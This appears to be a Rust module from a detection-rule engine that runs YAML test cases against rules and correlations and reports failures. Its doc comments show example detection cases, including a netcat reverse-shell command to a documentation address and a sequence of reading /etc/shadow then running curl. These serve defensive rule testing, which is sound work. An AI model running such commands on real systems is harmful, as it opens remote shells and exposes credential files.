//! Rules held against the events that they should and should not match.
//!
//! Beside a rule file `name.yml` stands `name.test.yml`:
//!
//! ```yaml
//! rule: 4d2e1c7a-2f0b-4f0e-9a53-6d6c4b1f0b11
//! positive:
//!     - name: netcat gives a shell away
//!       event: {Image: /usr/bin/nc, CommandLine: nc -e /bin/sh 192.0.2.1 4444}
//! negative:
//!     - name: netcat asks for its version
//!       event: {Image: /usr/bin/nc, CommandLine: nc -h}
//! ```
//!
//! `rule` is the id of the rule that the cases are for; a file of several rules has a document for each. `event` is
//! flat or nested, by the names that the rule uses, and is of the log source that the rule is for.
//!
//! A rule with [`novelty`](crate::novelty) is held against an `event` like any other: that it matches. It is held against
//! `events` like a correlation: the case is positive when a new value raises an alert. Its baseline begins with the first of
//! them, of whatever category.
//!
//! A correlation is held against sequences: `events` in the order in which they come, each with `at`, when it happened,
//! in seconds, and the `category` of its log source (every rule is tried where that is not said). The case is positive
//! when the correlation raises an alert, be it when all windows are over.
//!
//! ```yaml
//! rule: 0e9f4d81-c36a-4275-9f1b-a58d7e02c6b3
//! positive:
//!     - name: read, then sent
//!       events:
//!           - {at: 0, category: file_access, event: {TargetFilename: /etc/shadow}}
//!           - {at: 2.5, category: process_creation, event: {Image: /usr/bin/curl}}
//! ```

mod sequence;

use std::path::{Path, PathBuf};
use std::sync::Arc;

use lavender_core::RuleMeta;
use serde::Serialize;
use serde_json::Value;

use self::sequence::{Moment, Sequence};
use crate::correlate::Correlation;
use crate::error::Fault;
use crate::record::JsonFields;
use crate::rule::{Node, read_yaml, to_json};
use crate::ruleset::{Rule, RuleSet};
use crate::truth::Truth;

/// How a rule fared on its cases.
#[derive(Clone, Debug, Serialize)]
pub struct RuleTest {
    /// The rule's file.
    pub file: Arc<str>,
    /// The rule's id.
    pub id: Arc<str>,
    /// The rule's title.
    pub title: Arc<str>,
    /// How many cases there are that it should match.
    pub positive: usize,
    /// How many there are that it should not.
    pub negative: usize,
    /// The cases that came out otherwise.
    pub failures: Vec<Failure>,
}

/// A case that came out otherwise than it should.
#[derive(Clone, Debug, Serialize)]
pub struct Failure {
    /// The test file.
    pub file: Arc<str>,
    /// The line of the case.
    pub line: u32,
    /// The case's name.
    pub name: String,
    /// Whether it should have matched.
    pub expected: bool,
    /// How the condition came out, part by part.
    pub explanation: String,
}

impl RuleTest {
    /// Whether it has cases of both kinds, and all came out as they should.
    pub fn passed(&self) -> bool {
        self.positive > 0 && self.negative > 0 && self.failures.is_empty()
    }
}

/// Runs the cases of every rule of a set. `tests` are test files: name and text. Rules without cases are in the
/// result too, and have not passed.
///
/// # Errors
///
/// Every fault in the test files: of syntax, a case without an event, cases for no rule of the set.
pub fn run_tests<'t>(
    rules: &RuleSet,
    tests: impl IntoIterator<Item = (&'t str, &'t str)>,
) -> Result<Vec<RuleTest>, Vec<Fault>> {
    let mut runner = Runner { rules, fields: JsonFields::new(rules.fields()), faults: Vec::new() };
    let correlations = rules.correlations().iter().map(RuleTest::of_correlation);
    let mut results: Vec<RuleTest> = rules.iter().map(RuleTest::of).chain(correlations).collect();
    for (file, text) in tests {
        runner.file(file, text, &mut results);
    }
    if runner.faults.is_empty() { Ok(results) } else { Err(runner.faults) }
}

/// The test files under a directory: name and text.
///
/// # Errors
///
/// When a directory or a file cannot be read.
pub fn read_tests(directory: &Path) -> std::io::Result<Vec<(PathBuf, String)>> {
    let mut tests = Vec::new();
    let mut open = vec![directory.to_owned()];
    while let Some(directory) = open.pop() {
        for entry in std::fs::read_dir(directory)? {
            let entry = entry?;
            let path = entry.path();
            if entry.file_type()?.is_dir() {
                open.push(path);
            } else if path.to_string_lossy().ends_with(".test.yml") {
                let text = std::fs::read_to_string(&path)?;
                tests.push((path, text));
            }
        }
    }
    tests.sort();
    Ok(tests)
}

impl RuleTest {
    fn of(rule: &Rule) -> Self {
        Self::new(rule.file(), rule.meta())
    }

    fn of_correlation(correlation: &Correlation) -> Self {
        Self::new(correlation.file(), correlation.meta())
    }

    fn new(file: &Arc<str>, meta: &RuleMeta) -> Self {
        Self {
            file: Arc::clone(file),
            id: Arc::clone(&meta.id),
            title: Arc::clone(&meta.title),
            positive: 0,
            negative: 0,
            failures: Vec::new(),
        }
    }
}

struct Runner<'a> {
    rules: &'a RuleSet,
    fields: JsonFields,
    faults: Vec<Fault>,
}

/// One case of a test file.
struct Case {
    line: u32,
    name: String,
    expected: bool,
    given: Given,
}

/// What a rule, or a correlation, is held against.
enum Given {
    Event(Value),
    Events(Vec<Moment>),
}

impl Runner<'_> {
    fn fault(&mut self, file: &str, line: u32, reason: impl Into<String>) {
        self.faults.push(Fault { file: file.into(), line, rule: None, reason: reason.into() });
    }

    fn file(&mut self, file: &str, text: &str, results: &mut [RuleTest]) {
        let (documents, broken) = read_yaml(text);
        if let Some(fault) = broken {
            self.fault(file, fault.line, fault.reason);
        }
        for document in &documents {
            let Some(id) = document.get("rule").and_then(|rule| rule.scalar_text()) else {
                self.fault(
                    file,
                    document.line,
                    "`rule`, the id of the rule that is tested, is missing",
                );
                continue;
            };
            let Some(result) = results.iter_mut().find(|result| *result.id == *id) else {
                self.fault(file, document.line, format!("no rule has the id `{id}`"));
                continue;
            };
            for (key, expected) in [("positive", true), ("negative", false)] {
                for case in self.cases(file, document, key, expected) {
                    self.run(file, &case, result);
                }
            }
        }
    }

    fn cases(&mut self, file: &str, document: &Node, key: &str, expected: bool) -> Vec<Case> {
        let Some(list) = document.get(key) else { return Vec::new() };
        let Some(entries) = list.as_list() else {
            self.fault(file, list.line, format!("`{key}` is a list of cases"));
            return Vec::new();
        };
        let mut cases = Vec::new();
        for entry in entries {
            let Some(name) = entry.get("name").and_then(|name| name.scalar_text()) else {
                self.fault(file, entry.line, "a case has a `name`");
                continue;
            };
            match self.given(entry) {
                Ok(given) => {
                    let (line, name) = (entry.line, name.into_owned());
                    cases.push(Case { line, name, expected, given });
                }
                Err((line, reason)) => self.fault(file, line, reason),
            }
        }
        cases
    }

    fn given(&self, entry: &Node) -> Result<Given, (u32, &'static str)> {
        match (entry.get("event").map(to_json).filter(Value::is_object), entry.get("events")) {
            (Some(event), None) => Ok(Given::Event(event)),
            (None, Some(events)) => Moment::read_all(events).map(Given::Events),
            _ => Err((
                entry.line,
                "a case has an `event` (a mapping), or of a correlation `events` (a list)",
            )),
        }
    }

    fn run(&mut self, file: &str, case: &Case, result: &mut RuleTest) {
        let outcome = match (&case.given, self.rules.rule(&result.id)) {
            (Given::Event(event), Some(rule)) => Ok(self.event(rule, event)),
            (Given::Events(events), rule) if rule.is_none_or(|rule| rule.novelty().is_some()) => {
                let sequence = Sequence { rules: self.rules, fields: &self.fields };
                Ok(sequence.run(&result.id, events))
            }
            (Given::Events(_), _) => Err("a rule without novelty is held against one `event`"),
            (Given::Event(_), None) => Err("a correlation is held against `events`"),
        };
        let (matched, explanation) = match outcome {
            Ok(outcome) => outcome,
            Err(reason) => return self.fault(file, case.line, reason),
        };
        if case.expected {
            result.positive += 1;
        } else {
            result.negative += 1;
        }
        if matched != case.expected {
            result.failures.push(Failure {
                file: file.into(),
                line: case.line,
                name: case.name.clone(),
                expected: case.expected,
                explanation,
            });
        }
    }

    fn event(&self, rule: &Rule, event: &Value) -> (bool, String) {
        let record = self.fields.record(event);
        let mut evaluator = self.rules.evaluator(rule.logsource());
        let matched = evaluator
            .matches(&record)
            .any(|found| found.truth() == Truth::True && found.meta().id == rule.meta().id);
        (matched, self.rules.explain(rule, &record).to_string())
    }
}
